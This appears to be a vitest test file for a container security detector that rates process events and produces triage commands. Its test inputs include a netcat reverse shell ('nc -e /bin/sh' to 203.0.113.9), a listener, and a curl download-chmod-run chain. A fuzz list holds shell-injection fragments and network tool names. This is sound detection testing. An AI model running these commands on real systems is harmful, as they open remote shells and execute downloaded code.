import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { eventOf } from '../../src/commands/judge.ts';
import { defaultDetectConfig, detectSchema } from '../../src/detect/config.ts';
import { exampleEvent } from '../../src/detect/examples.ts';
import { createDetector } from '../../src/detect/index.ts';
import { indicators } from '../../src/detect/indicators/index.ts';
import { mitigations } from '../../src/detect/mitigations/index.ts';
import { categories, tools } from '../../src/detect/tools/index.ts';
import type { NoteEntry } from '../../src/model/intake.ts';

const detector = createDetector(defaultDetectConfig());

describe('memory', () => {
  const low = exampleEvent({ run: 'nslookup db.example.com' });

  test('what was seen before under the same parent sinks one step, up to low', () => {
    expect(detector.judge(low).severity).toBe('low');
    expect(detector.judge(low, { seen_before: 1 }).severity).toBe('info');
  });
  test('what was seen before never lowers medium, nor anything hard', () => {
    const medium = exampleEvent({ run: 'nc -lvnp4444' });
    expect(detector.judge(medium, { seen_before: 100 }).severity).toBe('medium');
    const hard = exampleEvent({ run: 'nc -e /bin/sh 203.0.113.9 1' });
    expect(JSON.stringify(detector.judge(hard, { seen_before: 100 }))).toBe(
      JSON.stringify(detector.judge(hard)),
    );
  });
  test('lowering by memory can be switched off', () => {
    const stubborn = createDetector({ ...defaultDetectConfig(), seen_before_lowers: 0 });
    expect(stubborn.judge(low, { seen_before: 100 }).severity).toBe('low');
  });
  test('an unknown program that ends a chain of download and chmod is high', () => {
    const chain = [
      {
        step: 'download' as const,
        text: 'curl -o /tmp/x http://files.example.com/x',
        time: '2026-01-02T03:00:00Z',
        path: '/tmp/x',
      },
      { step: 'chmod' as const, text: 'chmod +x /tmp/x', time: '2026-01-02T03:00:01Z', path: '/tmp/x' },
    ];
    const event = exampleEvent({ run: '/tmp/x' });
    expect(detector.judge(event).severity).toBe('none');
    expect(detector.judge(event, { chain })).toMatchObject({
      severity: 'high',
      indicators: [{ id: 'chain_download_run' }],
    });
    expect(detector.judge(exampleEvent({ run: '/tmp/other' }), { chain }).severity).toBe('none');
  });
});

describe('an event that names a tool by itself', () => {
  const chain = [{ step: 'download' as const, text: 'curl -o /tmp/x http://h/x', time: '', path: '/tmp/x' }];
  const examples = [...indicators, ...mitigations].flatMap(({ examples: all }) => [
    ...all.fires,
    ...all.silent,
  ]);
  const events = examples.map(exampleEvent);
  const corpus = readFileSync(new URL('../corpus/dev.jsonl', import.meta.url), 'utf8')
    .trimEnd()
    .split('\n');
  for (const [at, line] of corpus.entries()) {
    const { event } = eventOf(line, at + 1, 'corpus');
    if (event !== undefined) events.push(event);
  }
  const joined = events.map((event) => ({
    ...event,
    sensor: 'falco' as const,
    process: { ...event.process, argv_quality: 'split' as const },
  }));
  const all = [...events, ...joined];

  test('has a verdict with a tool, whatever is added to it and whatever came before', () => {
    const known = {
      container: { mounts: [{ destination: '/', type: 'tmpfs' }], probes: [['true']], privileged: true },
      image: { repository: 'docker.io/curlimages/curl' },
      file: { in_mount: true, upper_layer: true },
    };
    const named = all.filter((event) => detector.names(event));
    expect(named.length).toBeGreaterThan(all.length / 3);
    for (const event of named) {
      const added = {
        ...event,
        container: { ...event.container!, ...known.container },
        image: known.image,
        process: { ...event.process, container_process: true, file: known.file },
      };
      for (const one of [event, added])
        for (const state of [{}, { seen_before: 9 }, { chain }])
          expect(detector.judge(one, state).tool, JSON.stringify(event)).toBeTypeOf('string');
    }
  });

  test('is none where it opens nothing, is one of the host, or says it in a string only', () => {
    const { container: _container, ...ofHost } = exampleEvent({ run: 'nc h 1' });
    expect(detector.names(exampleEvent({ run: 'nc h 1' }))).toBe(true);
    expect(detector.names(ofHost)).toBe(false);
    expect(detector.names(exampleEvent({ run: "sh -c 'nc h 1'" }))).toBe(false);
    expect(detector.names(exampleEvent({ run: 'python3 -c 1' }))).toBe(false);
    expect(detector.names(exampleEvent({ run: 'ls' }))).toBe(false);
  });
});

describe('what a finding says', () => {
  const verdict = detector.judge(
    exampleEvent({
      run: '/tmp/nc -e /bin/sh 203.0.113.9 443',
      by: ["sh -c '/tmp/nc -e /bin/sh 203.0.113.9 443'", 'nginx'],
    }),
  );

  test('opens with what ran where and says one sentence for each indicator', () => {
    expect(verdict.why[0]).toContain(
      'netcat (netcat) was executed in container app (image registry.example/shop/orders-api:2.8.0)',
    );
    expect(verdict.why.length).toBe(1 + verdict.indicators.length);
    expect(verdict.why.join('\n')).toContain('descends from nginx');
    expect(verdict.why.join('\n')).toContain('/tmp/nc is in a directory everyone may write to');
  });
  test('a lowered finding says by how much and why', () => {
    const lowered = detector.judge(
      exampleEvent({
        run: 'nslookup db.example.com',
        by: ['sh', 'npm install'],
        tty: true,
        in_init_tree: false,
      }),
    );
    const text = lowered.why.join('\n');
    expect(lowered.severity).toBe('info');
    expect(text).toMatch(/lowered by 20: npm started it/);
  });
  test('gives ready commands for this pod and a policy that isolates it alone', () => {
    const commands = verdict.triage.map((step) => step.command ?? '').join('\n');
    expect(commands).toContain('kubectl -n shop describe pod orders-api-0');
    expect(commands).toContain('--since-time=2026-01-02T02:49:05Z');
    expect(commands).toContain('kubectl -n shop label pod orders-api-0 lanner-quarantine=true --overwrite');
    expect(commands).toContain('policyTypes: [Ingress, Egress]');
    expect(commands).toContain('crictl inspect');
    expect(verdict.triage.map((step) => step.text).join('\n')).toContain('Treat it as a backdoor');
  });
  test('names of pods and paths are quoted for the shell', () => {
    const base = exampleEvent({ run: `"/tmp/a'b/nc" db 5432` });
    const text = detector
      .judge(base)
      .triage.map((step) => step.command ?? '')
      .join('\n');
    expect(text).toContain(`'/tmp/a'\\''b/nc'`);
  });
  test('a container without a pod gets docker commands', () => {
    const { pod: _pod, ...event } = exampleEvent({ run: 'nc -e /bin/sh 203.0.113.9 443' });
    const commands = detector
      .judge(event)
      .triage.map((step) => step.command ?? '')
      .join('\n');
    expect(commands).toContain('docker top');
    expect(commands).not.toContain('kubectl');
  });
  test('techniques of hard facts come first, without repeats', () => {
    expect(verdict.mitre[0]).toBe('T1059.004');
    expect(new Set(verdict.mitre).size).toBe(verdict.mitre.length);
  });
});

test('explain hears the steps, what fired, what did not, the sum and the severity', () => {
  const notes: NoteEntry[] = [];
  detector.judge(exampleEvent({ run: 'timeout 5 nc -lvnp4444' }), {}, (entry) => notes.push(entry));
  const steps = new Set(notes.map((entry) => entry.step));
  for (const step of ['program', 'arguments', 'peers', 'location', 'indicator', 'score', 'severity'] as const)
    expect(steps, step).toContain(step);
  const text = notes.map((entry) => entry.text).join('\n');
  expect(text).toContain('timeout wraps the rest');
  expect(text).toContain('listener +25');
  expect(text).toContain('exec_on_socket silent');
  expect(text).toContain('= 50');
});

describe('the taxonomy', () => {
  test('has no id twice, no name for two tools, and at least one tool in each category', () => {
    expect(new Set(tools.map((tool) => tool.id)).size).toBe(tools.length);
    const names = tools.flatMap((tool) => [...tool.names]);
    expect(names.filter((name, at) => names.indexOf(name) !== at)).toEqual([]);
    for (const category of categories)
      expect(
        tools.some((tool) => tool.category === category),
        category,
      ).toBe(true);
  });
  test('is of the shape that an operator writes', () => {
    for (const tool of tools) {
      const plain = JSON.parse(JSON.stringify(tool)) as object;
      expect(detectSchema.safeParse({ tools: { add: [plain] } }).error?.message, tool.id).toBeUndefined();
    }
  });
  test('can be re-rated by tool and by category', () => {
    const event = exampleEvent({ run: 'nmap 10.0.0.0/8' });
    const rate = (points: Record<string, number>) =>
      createDetector({ ...defaultDetectConfig(), tools: { add: [], remove: [], points } }).judge(event).score;
    expect(rate({ nmap: 70 })).toBe(detector.judge(event).score + 25);
    expect(rate({ scanner: 55 })).toBe(detector.judge(event).score + 10);
  });
});

describe('the configuration', () => {
  test('refuses unknown keys, falling thresholds and ids that are none', () => {
    expect(detectSchema.safeParse({ tool: {} }).success).toBe(false);
    expect(detectSchema.safeParse({ thresholds: { info: 50 } }).success).toBe(false);
    expect(
      detectSchema.safeParse({ tools: { add: [{ id: 'Bad Id', category: 'dns', names: ['x'] }] } }).success,
    ).toBe(false);
    expect(
      detectSchema.safeParse({ tools: { add: [{ id: 'x', category: 'nothing', names: ['x'] }] } }).success,
    ).toBe(false);
  });
  test('thresholds move the severities', () => {
    const strict = createDetector(detectSchema.parse({ thresholds: { high: 50 } }));
    expect(strict.judge(exampleEvent({ run: 'nc -lvnp4444' })).severity).toBe('high');
  });
  test('places of an image can be expected or suspicious', () => {
    const event = exampleEvent({
      run: '/opt/jobs/nc db.example.com 5432',
      image: 'registry.example/x/jobs:1',
    });
    const judge = (locations: object[]) =>
      createDetector(detectSchema.parse({ locations }))
        .judge(event)
        .indicators.map((hit) => hit.id);
    expect(judge([])).not.toContain('loc_writable');
    expect(judge([{ paths: ['/opt/jobs/**'], class: 'volume', images: ['jobs'] }])).toContain('loc_writable');
    expect(judge([{ paths: ['/opt/jobs/**'], class: 'volume', images: ['other'] }])).not.toContain(
      'loc_writable',
    );
    const tmp = exampleEvent({
      run: '/tmp/tools/nc db.example.com 5432',
      image: 'registry.example/x/jobs:1',
    });
    const expected = createDetector(
      detectSchema.parse({ locations: [{ paths: ['/tmp/tools/*'], class: 'expected', images: ['jobs'] }] }),
    );
    expect(expected.judge(tmp).indicators.map((hit) => hit.id)).not.toContain('loc_writable');
  });
  test('an image can be declared to be made for a tool', () => {
    const event = exampleEvent({
      run: 'nmap -sn db.example.com',
      image: 'registry.example/x/inventory:1',
      by: [],
    });
    const declared = createDetector(
      detectSchema.parse({ images: { purpose: [{ images: ['inventory'], tools: ['scanner'] }] } }),
    );
    expect(detector.judge(event).severity).toBe('low');
    expect(declared.judge(event).severity).toBe('none');
  });
});

test('judging is a pure function: the same event gives the same verdict and stays untouched', () => {
  const event = exampleEvent({ run: 'curl -s http://203.0.113.9/x -o /tmp/x', by: ['sh', 'nginx'] });
  const before = JSON.stringify(event);
  expect(JSON.stringify(detector.judge(event))).toBe(JSON.stringify(detector.judge(event)));
  expect(JSON.stringify(event)).toBe(before);
});

test('no argument list crashes the judgement', () => {
  const word = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.constantFrom(
      '-e',
      '-c',
      '--',
      '',
      '-',
      '$(',
      '`',
      '<(',
      '{a,',
      '\\',
      "'",
      '"',
      '\u0000',
      '\u202e',
      'http://',
      '@',
      ':::',
      '[::1',
      '/dev/tcp/',
      '-o',
      '%',
      '${IFS}',
      '<<EOF',
    ),
  );
  const name = fc.constantFrom(
    'nc',
    'ncat',
    'socat',
    'curl',
    'wget',
    'dig',
    'host',
    'nslookup',
    'ssh',
    'nmap',
    'sh',
    'bash',
    'busybox',
    'toybox',
    'python3',
    'perl',
    'php',
    'openssl',
    'timeout',
    'env',
    'find',
    'xargs',
    'rsync',
    'tcpdump',
    'chisel',
    'getent',
    'x',
    '/tmp/x',
    '/proc/self/exe',
    'ld-linux-x86-64.so.2',
  );
  fc.assert(
    fc.property(
      name,
      fc.array(word, { maxLength: 12 }),
      fc.array(word, { maxLength: 4 }),
      fc.constantFrom('exact', 'split', 'truncated', 'lost'),
      fc.constantFrom('tetragon', 'falco'),
      (program, args, parent, quality, sensor) => {
        const base = exampleEvent({ run: program, by: ['sh -c x'] });
        const argv = [base.process.argv[0] ?? program, ...args];
        const above = {
          ...base.ancestors[0]!,
          argv: ['sh', '-c', ...parent],
          argv_quality: quality,
          arguments: `-c ${parent.join(' ')}`,
        };
        const process = {
          ...base.process,
          argv,
          argv_quality: quality,
          ...(quality === 'exact' ? {} : { arguments: args.join(' ') }),
        };
        const verdict = detector.judge({
          ...base,
          sensor,
          process,
          ancestors: [above, ...base.ancestors.slice(1)],
        });
        expect(Number.isFinite(verdict.score)).toBe(true);
      },
    ),
    { numRuns: 2000 },
  );
});
